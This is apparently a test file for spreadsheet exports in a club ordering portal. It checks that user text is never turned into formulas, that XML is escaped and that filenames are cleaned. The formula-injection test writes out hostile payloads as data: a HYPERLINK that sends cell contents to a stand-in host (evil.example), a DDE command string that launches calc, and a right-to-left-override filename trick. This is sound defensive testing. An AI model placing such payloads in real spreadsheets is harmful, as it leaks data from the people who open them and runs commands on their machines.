import { expect, test } from 'bun:test'
import { Workbook } from 'exceljs'
import { toWorkbook } from '#client/portal/lists/download.ts'
import { toEditionSheet } from '#client/portal/editions/edition-sheet.ts'
import type { LineStatus } from '#src/contract/statuses.ts'
import { toCustomSheet, toOrderSheet, toStockSheet } from '#client/portal/orders/sheets.ts'
import { unzip } from '#tests/support/unzip.ts'

const REMARKS = [
  '=1+1',
  '=HYPERLINK("https://elsewhere.example","x")',
  '+1',
  '-2',
  '@SUM(A1)',
  '\t=1',
  "'apostrophe",
  ' spaces around ',
  'line\nbreak',
  '<b>&amp;"',
  '00123',
  '2026-11-21',
  'कला और मरुद्यान 🎨',
]

async function reopen(rows: (string | number)[][], columns = ['Remarks']) {
  const { buffer } = await toWorkbook({ file: 'order.xlsx', sheet: 'Order', columns, rows })
  const workbook = new Workbook()
  await workbook.xlsx.load(buffer)
  const sheet = workbook.getWorksheet('Order')
  if (!sheet) throw new Error('The sheet is not there.')
  const written = unzip(buffer)
  const xml = ['xl/worksheets/sheet1.xml', 'xl/sharedStrings.xml'].map(
    (name) => written.get(name) ?? '',
  )
  return { sheet, xml: xml.join('') }
}

test('a spreadsheet holds its column names, numbers as numbers and text unchanged', async () => {
  const rows = REMARKS.map((remark, index) => [remark, index])
  const { sheet } = await reopen(rows, ['Remarks', 'Given Quantity'])
  expect(sheet.getRow(1).values).toEqual([undefined, 'Remarks', 'Given Quantity'] as never)
  for (const [index, row] of rows.entries())
    expect(sheet.getRow(index + 2).values).toEqual([undefined, ...row] as never)
})

test('text never becomes a formula', async () => {
  const starts = [
    '=',
    '+',
    '-',
    '@',
    '\r=',
    '\n=',
    ' =',
    '＝',
    '"=',
    "'=",
    ';=',
    '=\u200b',
    '\ufeff=',
    '==',
  ]
  const calls = ['HYPERLINK("https://evil.example?"&A1,"x")', "cmd|' /C calc'!A0"]
  const payloads = starts.flatMap((start) => calls.map((call) => start + call))
  const { sheet, xml } = await reopen([...REMARKS, ...payloads].map((remark) => [remark]))
  expect(xml).toContain('=1+1')
  expect(xml).not.toMatch(/<f[\s>]|externalLink/)
  for (const [at, payload] of payloads.entries())
    expect(String(sheet.getCell(REMARKS.length + 2 + at, 1).value)).toEndWith(payload.trim())
})

test('text that looks like an escaped character is escaped', async () => {
  const { xml } = await reopen([['_x0041_x0042_ and _x41_']])
  expect(xml).toContain('_x005F_x0041_x005F_x0042_ and _x41_')
})

test('characters that XML forbids are removed', async () => {
  const { sheet } = await reopen([['a\u0000b\u000Bc\uFFFEd\uD800e']])
  expect(sheet.getCell('A2').value).toBe('abcd\uFFFDe')
})

test.each([
  ['Film Club', 'Film Club.xlsx'],
  ['AC/DC: "Live"? <1|2> *\\', 'ACDC Live 12.xlsx'],
  ['..\u0007hidden. ', 'hidden.xlsx'],
  ['txt.\u202Eexe', 'txt.exe.xlsx'],
  ['CON', '_CON.xlsx'],
  ['///', 'spreadsheet.xlsx'],
  ['नाट्य क्लब', 'नाट्य क्लब.xlsx'],
])('the spreadsheet of %j is called %j', (club, name) => {
  expect(toOrderSheet(club, []).file).toBe(name)
})

test('the head and the first column stay in view and stand on each page of paper', async () => {
  const { sheet } = await reopen([['Soon']])
  expect(sheet.views).toMatchObject([{ state: 'frozen', xSplit: 1, ySplit: 1 }])
  expect(sheet.pageSetup).toMatchObject({ orientation: 'landscape', printTitlesRow: '1:1' })
})

const line = {
  _id: 'l',
  itemName: 'Glue',
  unit: '',
  ordered_quantity: 3,
  allotted_quantity: 2,
  delivered_quantity: 0,
  status: 'Ready',
  remarks: 'Counter 2',
  link: '',
} as const

test('beside the columns of the specification there is a sheet with the states', () => {
  const { more } = toOrderSheet('Drama Club', [line])
  expect(more?.[0]?.rows).toEqual([['Glue', 3, 2, 'Ready for Pickup', 'Counter 2', '']])
  expect(toOrderSheet('Drama Club', [{ ...line, status: '' }]).more?.[0]?.rows[0]?.[3]).toBe('')
})

test('custom items are listed as specified, and by club for whoever calls and buys', () => {
  const asha = { user_id: 'd', cordName: 'Asha', contact: '+91 1', email: 'd@clubs.example' }
  const lines = [
    { ...line, ...asha, clubName: 'Drama Club', link: 'https://shop.example/glue' },
    { ...line, ...asha, clubName: 'Art Club', itemName: 'Neon' },
  ]
  const { rows, more } = toCustomSheet(lines)
  expect(rows).toEqual([
    ['Glue', 3],
    ['Neon', 3],
  ])
  expect(more?.map(({ sheet }) => sheet)).toEqual(['By club'])
  expect(more?.[0]?.rows).toEqual([
    ['Art Club', 'Asha', '+91 1', 'Neon', 3, '', 'Ready for Pickup', 'Counter 2'],
    [
      'Drama Club',
      'Asha',
      '+91 1',
      'Glue',
      3,
      'https://shop.example/glue',
      'Ready for Pickup',
      'Counter 2',
    ],
  ])
})

test('the spreadsheet of an ended edition has its lines, and its demand alone', () => {
  const edition = { _id: 'oasis', name: 'OASIS 2026', began_at: '', ended_at: '' }
  const ofClub = (
    status: LineStatus,
    allotted_quantity: number,
    delivered_quantity = 1,
    item_id: string | null = 'i',
  ) => ({ ...line, status, allotted_quantity, item_id, delivered_quantity })
  const lines = [
    ofClub('Ready', 3),
    ofClub('Pending', 2, 1, null),
    ofClub('Ready', 1),
    ofClub('Rejected', 2),
    ofClub('', 0, 0),
  ]
  const clubs = [{ user_id: 'd', clubName: 'Drama Club', cordName: 'Asha', lines }]
  const of = (edition: string) => ({ edition, item_id: 'i', itemName: 'Glue', clubs: 1 })
  const demand = ['oasis', 'apogee'].map((id) => ({
    ...of(id),
    asked: 9,
    given: 4,
    handed_over: 3,
  }))
  const { file, sheet, rows, more } = toEditionSheet({ edition, clubs }, demand)
  expect([file, sheet]).toEqual(['Editions OASIS 2026.xlsx', 'Lines'])
  const rowOf = (given: number, status: string, handedOver = 1) =>
    ['Drama Club', 'Asha', 'Glue', 3, given, handedOver, status, 'Counter 2', ''] as const
  expect(rows).toEqual([
    rowOf(3, '2 went back to the shelf'),
    rowOf(2, '1 not handed over'),
    rowOf(1, 'Delivered'),
    rowOf(2, 'Rejected'),
    rowOf(0, 'No decision', 0),
  ])
  expect(more?.map(({ sheet, rows }) => [sheet, rows])).toEqual([
    ['Demand', [['Glue', 1, 9, 4, 3]]],
  ])
})

test('the sheets of all items have the names of the specification', () => {
  expect(toStockSheet([]).file).toBe('inventory_items.xlsx')
  expect(toCustomSheet([]).file).toBe('external_inventory_items.xlsx')
})
